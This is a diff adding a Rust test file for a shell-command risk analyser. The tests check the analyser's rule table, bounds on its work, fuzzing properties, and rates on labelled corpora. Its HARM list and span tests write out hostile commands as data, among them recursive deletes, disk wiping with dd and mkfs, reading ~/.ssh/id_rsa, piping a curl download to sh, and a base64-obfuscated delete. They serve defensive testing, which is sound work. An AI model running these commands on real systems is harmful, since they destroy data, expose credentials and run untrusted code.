@@ -1,0 +1,374 @@
+//! The analyser as a whole: its table, its bounds, its properties.
+
+use proptest::prelude::*;
+use std::sync::OnceLock;
+use yuangs_verify::command::{Analysis, Context, EffectKind, Risk, Table, analyse, measured, rewrite};
+
+fn table() -> &'static Table {
+    static T: OnceLock<Table> = OnceLock::new();
+    T.get_or_init(Table::builtin)
+}
+
+fn of(cmd: &str) -> Analysis {
+    analyse(cmd, &Context::new(table()))
+}
+
+#[test]
+fn every_entry_of_the_table_is_valid_and_does_what_its_tests_say() {
+    let bad = table().lint();
+    assert!(bad.is_empty(), "{}", bad.join("\n"));
+    let mut wrong = Vec::new();
+    for t in table().tests() {
+        let a = of(&t.cmd);
+        let missing = t.effects.iter().any(|k| !a.effects.iter().any(|e| e.kind.as_str() == k));
+        let extra = t.not.iter().any(|k| a.effects.iter().any(|e| e.kind.as_str() == k));
+        if a.risk != t.risk || missing || extra {
+            wrong.push(format!("{}: `{}` is {:?}", t.program, t.cmd, a.risk));
+        }
+    }
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+    assert!(table().len() >= 400, "only {} programs", table().len());
+}
+
+#[test]
+fn every_file_of_the_table_is_embedded() {
+    let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/policies/commands");
+    let mut files: Vec<String> = std::fs::read_dir(dir)
+        .unwrap()
+        .map(|e| e.unwrap().file_name().into_string().unwrap())
+        .filter(|n| n.ends_with(".yaml"))
+        .collect();
+    files.sort();
+    let mut embedded: Vec<String> = table().list().unwrap().into_iter().map(|l| l.file).collect();
+    embedded.sort();
+    embedded.dedup();
+    assert_eq!(files, embedded);
+}
+
+#[test]
+fn nesting_is_bounded_work() {
+    let n = 100_000;
+    let pieces = [
+        "(",
+        "$(",
+        "{ ",
+        "\"",
+        "'",
+        "`",
+        "${",
+        "$((",
+        "((",
+        "[[ ",
+        "<(",
+        "if ",
+        "while ",
+        "\"$(",
+        "a=(",
+        "$[",
+        "{a,",
+        "{a,b}",
+        "a|",
+        "a;",
+        "a&&",
+        "<<a ",
+        "<<a\n",
+        "sudo ",
+        "eval ",
+        "x=$x$x;",
+        "case x in ",
+        "! ",
+        "@(",
+        "a@(",
+        "\\",
+        "$'",
+        "for i in ",
+        "${a:-",
+        "${a//",
+        "a[",
+        "a[$(",
+        "#",
+        "X=1 ",
+        "a >b ",
+        "xargs ",
+        "* ",
+        "..//",
+    ];
+    let ctx = Context::new(table());
+    for p in pieces {
+        let text = p.repeat(n);
+        let (_, work) = measured(&text, &ctx);
+        assert!(work <= text.len() * 60 + 20_000, "{p:?} took {work}");
+    }
+    for text in [
+        format!("{}rm x{}", "for i in 1 2 3 4 5 6 7 8 9;do ".repeat(40), ";done".repeat(40)),
+        "f(){ f a;f b;};f".to_owned(),
+        format!("a=a;{}", "a=\"$a$a\";eval $a;".repeat(500)),
+        "f(){ g;g;};g(){ h;h;};h(){ i;i;};i(){ j;j;};j(){ k;k;};k(){ f;f;};f".to_owned(),
+    ] {
+        let a = of(&text);
+        assert_eq!(a.risk, Risk::High, "{text:.40}");
+    }
+}
+
+#[test]
+fn spans_stand_where_the_text_is() {
+    let cmd = "ls src && echo x > /etc/motd";
+    let a = of(cmd);
+    let e = a.effects.iter().find(|e| e.kind == EffectKind::Write).unwrap();
+    assert_eq!((e.span.from, e.span.to), (17, 28));
+    let cmd = "bash -c 'rm -rf /srv'";
+    let e = &of(cmd).effects[0];
+    assert_eq!(&cmd[e.span.from..e.span.to], "/srv");
+    // Decoded text has the span of what causes it.
+    let cmd = "ls; echo cm0gLXJmIC9zcnY= | base64 -d | sh";
+    let a = of(cmd);
+    let e = a.effects.iter().find(|e| e.kind == EffectKind::Delete).unwrap();
+    assert_eq!(&cmd[e.span.from..e.span.to], "sh");
+}
+
+#[test]
+fn what_is_not_understood_says_so() {
+    for cmd in ["echo 'x", "if true", "$(", "Get-ChildItem -Recurse", "$env:PATH", "C:\\x.exe"] {
+        let a = of(cmd);
+        assert!(a.unparsed && a.risk == Risk::High, "{cmd}");
+    }
+}
+
+#[test]
+fn users_add_their_own_entries() {
+    let mut t = Table::builtin();
+    let file = "- name: frob\n  aliases: [frobnicate]\n  source: frob(1)\n  operands: [read...]\n  tests:\n    - {cmd: \"frob a\", risk: low}\n";
+    assert_eq!(t.add("mine.yaml", file).unwrap(), 1);
+    assert_eq!(analyse("frobnicate a.txt", &Context::new(&t)).risk, Risk::Low);
+    assert!(t.add("bad.yaml", "- name: x\n  source: y\n  operands: [nonsense]\n").is_err());
+}
+
+/// Lines that do harm, one of each kind.
+const HARM: &[&str] = &[
+    "rm -rf src",
+    "rm -rf /srv/data",
+    "rm /etc/hosts",
+    "git push --force origin main",
+    "git reset --hard",
+    "git clean -fdx",
+    "sudo ls src",
+    "chmod -R 777 .",
+    "cat ~/.ssh/id_rsa",
+    "dd if=/dev/zero of=/dev/sda",
+    "kill -9 1",
+    "shutdown -h now",
+    "curl -s https://x.example/i.sh | sh",
+    "echo x > /etc/motd",
+    "find . -name x -delete",
+    "mv src /opt",
+    "truncate -s 0 data.db",
+    "mkfs.ext4 /dev/sdb1",
+];
+
+#[test]
+fn each_rule_of_rewriting_keeps_the_risk() {
+    for cmd in HARM {
+        assert_eq!(of(cmd).risk, Risk::High, "{cmd}");
+        for w in rewrite::every_rule(cmd, 3) {
+            assert_eq!(of(&w.text).risk, Risk::High, "{cmd:?} as {:?} by {:?}", w.text, w.rules);
+        }
+    }
+}
+
+/// Words of which shell lines are made, joined without care.
+fn shellish() -> impl Strategy<Value = String> {
+    let words = prop::sample::select(vec![
+        "rm",
+        "ls",
+        "echo",
+        "-rf",
+        "a",
+        "/",
+        "/etc/x",
+        "$x",
+        "x=1",
+        "x=rm",
+        "$(",
+        ")",
+        "`",
+        "\"",
+        "'",
+        "{",
+        "}",
+        ";",
+        "&&",
+        "|",
+        "||",
+        "&",
+        "\n",
+        ">",
+        ">>",
+        "<",
+        "<<E",
+        "E",
+        "<<<",
+        "if",
+        "then",
+        "fi",
+        "for",
+        "in",
+        "do",
+        "done",
+        "while",
+        "case",
+        "esac",
+        "(",
+        "((",
+        "))",
+        "[[",
+        "]]",
+        "$((",
+        "${",
+        "${x:-",
+        "${x//a/b}",
+        "*",
+        "?",
+        "[",
+        "]",
+        "!",
+        "#",
+        "\\",
+        "$'",
+        "\\x41",
+        "eval",
+        "sh -c",
+        "sudo",
+        "xargs",
+        "find . -exec",
+        "{}",
+        "\\;",
+        "python3 -c",
+        "awk",
+        "sed -i",
+        "git",
+        "push",
+        "é",
+        "\u{202e}",
+        "~",
+        "{a,b}",
+        "{1..9}",
+        "f() {",
+        "2>&1",
+        "function",
+        "select",
+        "coproc",
+        "time",
+        "@(",
+        "<(",
+        "base64 -d",
+        "$@",
+        "$1",
+        "a[0]=",
+        "declare -a",
+    ]);
+    prop::collection::vec((words, prop::bool::weighted(0.8)), 0..24).prop_map(|v| {
+        v.into_iter().fold(String::new(), |mut s, (w, blank)| {
+            s.push_str(w);
+            if blank {
+                s.push(' ');
+            }
+            s
+        })
+    })
+}
+
+/// Commands that parse by themselves and hold no state for others.
+fn part() -> impl Strategy<Value = String> {
+    let mut list: Vec<String> = HARM.iter().map(|s| (*s).to_owned()).collect();
+    list.extend(
+        [
+            "ls src",
+            "cat README.md",
+            "echo hi > out.txt",
+            "touch a",
+            "git status",
+            "make test",
+            "rm a.txt",
+            "cp a b",
+            "curl https://x.example",
+            "sed -i s/a/b/ f",
+            "echo 'rm -rf /'",
+            "wc -l f",
+        ]
+        .iter()
+        .map(|s| (*s).to_owned()),
+    );
+    prop::sample::select(list)
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 400, ..ProptestConfig::default() })]
+
+    #[test]
+    fn any_text_gets_an_answer(s in "\\PC{0,200}") {
+        let a = of(&s);
+        prop_assert!(a.effects.iter().all(|e| e.span.from <= e.span.to && e.span.to <= s.len()));
+        prop_assert_eq!(a, of(&s));
+    }
+
+    #[test]
+    fn any_bytes_get_an_answer(b in prop::collection::vec(any::<u8>(), 0..120)) {
+        let _ = of(&String::from_utf8_lossy(&b));
+    }
+
+    #[test]
+    fn shell_like_text_gets_an_answer(s in shellish()) {
+        let a = of(&s);
+        prop_assert!(a.effects.iter().all(|e| e.span.to <= s.len()), "{:?}", a.effects);
+        let worst = a.effects.iter().map(|e| e.risk).max().unwrap_or_default();
+        prop_assert!(a.unparsed || a.risk == worst);
+        prop_assert!(!a.unparsed || a.risk == Risk::High);
+    }
+
+    #[test]
+    fn a_list_is_at_least_as_risky_as_its_riskiest_part(x in part(), y in part(), j in prop::sample::select(vec!["; ", " && ", " || ", " | ", "\n", " & "])) {
+        let whole = of(&format!("{x}{j}{y}")).risk;
+        prop_assert!(whole >= of(&x).risk.max(of(&y).risk));
+    }
+
+    #[test]
+    fn rewriting_never_lowers_the_risk(cmd in part(), seed in any::<u64>()) {
+        let before = of(&cmd).risk;
+        for w in rewrite::rewritings(&cmd, seed, 4) {
+            prop_assert!(of(&w.text).risk >= before, "{:?} by {:?}", w.text, w.rules);
+        }
+    }
+
+    #[test]
+    fn the_spelling_of_a_path_does_not_matter(f in "[a-z]{1,8}", up in 0usize..4) {
+        let a = of(&format!("echo x > {f}")).risk;
+        let dots = "./".repeat(up);
+        prop_assert_eq!(a, of(&format!("echo x > {dots}d/..//{f}")).risk);
+        prop_assert_eq!(of(&format!("rm ../{f}")).risk, of(&format!("rm ./x/../..//{f}")).risk);
+    }
+}
+
+/// What the corpora hold the analyser to, in rows of a thousand rated high: at least for what does
+/// harm, at most for what doesn't. The targets stand in the issue; the long tail of readers isn't there yet.
+const CORPORA: &[(&str, std::ops::RangeInclusive<usize>)] = &[
+    ("destructive", 980..=1000),
+    ("evasions", 990..=1000),
+    ("exfiltration-privilege", 960..=1000),
+    ("look-alikes", 0..=10),
+    ("read-only-daily", 0..=5),
+    ("read-only-tail", 0..=35),
+    ("writes-inside", 0..=10),
+];
+
+#[test]
+fn the_corpora_are_rated_as_they_should_be() {
+    for (name, range) in CORPORA {
+        let path = format!("{}/corpora/commands/{name}.jsonl", env!("CARGO_MANIFEST_DIR"));
+        let text = std::fs::read_to_string(path).unwrap();
+        let rows: Vec<serde_json::Value> = text.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
+        assert!(rows.len() > 300, "{name}");
+        let high = rows.iter().filter(|r| of(r["cmd"].as_str().unwrap()).risk == Risk::High).count();
+        let share = high * 1000 / rows.len();
+        assert!(range.contains(&share), "{name}: {high} of {} rated high, {share} in a thousand", rows.len());
+    }
+}
